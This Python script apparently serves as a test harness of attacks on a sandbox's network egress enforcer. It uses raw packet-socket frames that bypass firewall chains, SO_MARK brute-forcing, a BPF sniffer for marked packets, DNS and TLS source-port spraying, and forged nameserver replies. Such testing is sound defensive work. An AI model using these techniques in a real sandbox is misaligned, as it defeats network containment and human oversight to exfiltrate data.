"""Attacks on an enforcer that lives in the sandbox's own network namespace. The first argument names the attack."""

from __future__ import annotations

import ctypes
import random
import socket
import ssl
import struct
import sys
from collections.abc import Callable

SOL_PACKET, PACKET_QDISC_BYPASS, SO_PRIORITY, SO_MARK, SO_ATTACH_FILTER = 263, 20, 12, 36, 26
ETH_P_ALL, ETH_P_IP, ETH_P_IPV6 = 3, 0x0800, 0x86DD
IPV6_FREEBIND = 78


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source: str, target: str, source_port: int, port: int, payload: bytes) -> bytes:
    """An IPv4 packet with a UDP datagram."""
    udp = struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def datagram6(source: str, target: str, source_port: int, port: int, payload: bytes) -> bytes:
    """An IPv6 packet with a UDP datagram."""
    ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
    length = 8 + len(payload)

    def udp(total: int) -> bytes:
        return struct.pack("!HHHH", source_port, port, length, total) + payload

    padded = ends + struct.pack("!IHBB", length, 0, 0, 17) + udp(0) + bytes(length % 2)
    return struct.pack("!IHBB", 6 << 28, length, 17, 64) + ends + udp(checksum(padded) or 0xFFFF)


def question(name: str, identifier: int) -> bytes:
    """A query for a name's IPv4 addresses."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack("!HHHHHH", identifier, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\x01\0\x01"


def deliver(way: str, target: str, packet: bytes) -> None:
    """Sends a packet of one's own making on the loopback: "raw" before the rules, otherwise as a frame, behind them."""
    if way == "raw":
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
            sender.sendto(packet, (target, 0))
    else:
        with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as sender:
            sender.sendto(packet, ("lo", ETH_P_IP, 0, 0, bytes(6)))


def packet_socket(bypass: str, source: str, target: str, port: str, mac: str) -> None:
    """Puts a frame on the wire behind every inet chain."""
    kind, build = (ETH_P_IPV6, datagram6) if ":" in target else (ETH_P_IP, datagram)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(kind)) as sender:
        sender.bind((next(name for _, name in socket.if_nameindex() if name != "lo"), kind))
        if bypass == "bypass":
            sender.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        own = sender.getsockname()[4]
        frame = bytes.fromhex(mac.replace(":", "")) + own + struct.pack("!H", kind)
        for _ in range(3):
            sender.send(frame + build(source, target, 5555, int(port), b"stolen by a frame"))


def marks(target: str, port: str) -> None:
    """Tries marks and priorities that somebody might trust."""
    numbers = [1 << bit for bit in range(32)] + list(range(256)) + [random.getrandbits(32) for _ in range(500)]
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    for number in numbers:
        with socket.socket(family, socket.SOCK_DGRAM) as sender:
            sender.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("I", number))
            sender.setsockopt(socket.SOL_SOCKET, SO_PRIORITY, struct.pack("I", number & 0x7FFFFFFF))
            try:
                sender.sendto(b"stolen by a mark", (target, int(port)))
            except PermissionError:
                continue


def spy(own_mark: str) -> None:
    """Looks for packets that leave with a mark; one of its own making, if asked, shows that it would see them."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as watcher:
        watcher.bind(("eth0", ETH_P_ALL))
        # ld mark; jeq 0 -> ret 0; ret 65535
        program = [(0x20, 0, 0, 0xFFFFF000 + 20), (0x15, 0, 1, 0), (0x06, 0, 0, 0), (0x06, 0, 0, 65535)]
        code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *step) for step in program))
        watcher.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, struct.pack("HL", len(program), ctypes.addressof(code)))
        watcher.settimeout(2)
        while True:
            # What came before the filter.
            try:
                watcher.setblocking(False)
                watcher.recv(65536)
            except BlockingIOError:
                break
        watcher.settimeout(2)
        print("watching", flush=True)
        if int(own_mark):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("I", int(own_mark)))
                sender.sendto(b"marked", ("198.51.100.66", 4444))
        sys.stdin.readline()
        try:
            watcher.recv(65536)
            print("seen", flush=True)
        except TimeoutError:
            print("nothing", flush=True)


def spray(target: str, low: str, high: str, label: str) -> None:
    """From every port that the enforcer may have asked the DNS server from, asks it something of its own."""
    for port in range(int(low), int(high) + 1):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            try:
                sender.bind(("0.0.0.0", port))
            except OSError:
                continue
            sender.sendto(question(f"x{port}.{label}", port), (target, 53))
            sender.settimeout(0.02)
            try:
                sender.recv(512)
            except (TimeoutError, ConnectionError):
                continue


def spray_tls(target: str, low: str, high: str, name: str) -> None:
    """From every port that the enforcer may have dialled a web server from, asks that server for something else."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for port in range(int(low), int(high) + 1):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
            connection.settimeout(1)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                connection.bind(("0.0.0.0", port))
                connection.connect((target, 443))
                with context.wrap_socket(connection, server_hostname=name) as session:
                    session.sendall(f"GET /sprayed HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
                    session.recv(512)
            except OSError:
                continue


def forge(way: str, source: str, target: str, port: str, message: str) -> None:
    """Answers a query of a program here in the name of its nameserver, without a packet from outside."""
    payload = bytes.fromhex(message)
    if way == "freebind":
        # The kernel lets anybody bind to an address that is not the machine's.
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
            sender.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
            sender.bind((source, 53))
            sender.sendto(payload, (target, int(port)))
        return
    deliver(way, target, datagram(source, target, 53, int(port), payload))


if __name__ == "__main__":
    attacks: dict[str, Callable[..., None]] = {"packet": packet_socket, "marks": marks, "spy": spy, "spray": spray}
    attacks |= {"forge": forge, "spray-tls": spray_tls}
    attacks[sys.argv[1]](*sys.argv[2:])
